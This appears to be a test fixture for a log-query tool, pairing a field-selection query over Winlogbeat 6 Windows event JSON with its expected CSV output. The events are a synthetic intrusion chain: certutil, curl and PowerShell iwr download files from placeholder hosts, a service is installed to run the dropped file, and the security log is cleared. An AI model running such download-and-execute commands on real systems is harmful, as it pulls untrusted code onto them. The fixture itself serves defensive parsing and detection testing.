# Winlogbeat 6's JSON: the rows that every shape of these events gives
--- query
* | fields _messagetime, EventID, Channel, Computer, Provider_Name, EventRecordID, host, user, process_name, process_path, process_id, command_line, parent_process_name, file_path, src_ip, dst_ip, dst_port, dns_query, script_text, hash_sha256, IntegrityLevel, TargetUserName, LogonType, SubjectUserName, SubjectLogonId, ServiceName, DestinationHostname, Initiated
--- from every-shape.events
--- paths winlogbeat-6-events.ndjson
--- output csv
_messagetime,EventID,Channel,Computer,Provider_Name,EventRecordID,host,user,process_name,process_path,process_id,command_line,parent_process_name,file_path,src_ip,dst_ip,dst_port,dns_query,script_text,hash_sha256,IntegrityLevel,TargetUserName,LogonType,SubjectUserName,SubjectLogonId,ServiceName,DestinationHostname,Initiated
1795507201000,1,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74174,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe ""C:\Users\Public\update & go.exe""",cmd.exe,,,,,,,9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,Medium,,,,,,,
1795507202000,22,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74175,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,,,,,files.cdn-stage.example,,,,,,,,,,
1795507203000,3,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74176,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,,192.0.2.5,203.0.113.20,80,,,,,,,,,,files.cdn-stage.example,true
1795507204000,11,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74177,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,C:\Users\Public\update & go.exe,,,,,,,,,,,,,,
1795507205000,4688,Security,ws5.corp.example,Microsoft-Windows-Security-Auditing,74178,ws5.corp.example,amara,curl.exe,C:\Windows\System32\curl.exe,6700,curl.exe -o C:\Users\Public\größe.bin https://paste.example/r/7,cmd.exe,,,,,,,,,-,,amara,0x3e7a1,,,
1795507206000,4624,Security,ws5.corp.example,Microsoft-Windows-Security-Auditing,74179,ws5.corp.example,amara,,,0,,,,192.0.2.9,,,,,,,amara,3,-,0x0,,,
1795507207000,4104,Microsoft-Windows-PowerShell/Operational,ws5.corp.example,Microsoft-Windows-PowerShell,74180,ws5.corp.example,S-1-5-21-1004336348-1177238915-682003330-1107,,,,,,C:\Users\amara\stage.ps1,,,,,"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\a.dll }
# ""done""",,,,,,,,,
1795507208000,7045,System,ws5.corp.example,Service Control Manager,74181,ws5.corp.example,LocalSystem,,,,,,"""C:\Users\Public\update & go.exe"" /svc",,,,,,,,,,,,Updater,,
1795507209000,1102,Security,ws5.corp.example,Microsoft-Windows-Eventlog,74182,ws5.corp.example,amara,,,,,,,,,,,,,,,,amara,0x3e7a1,,,
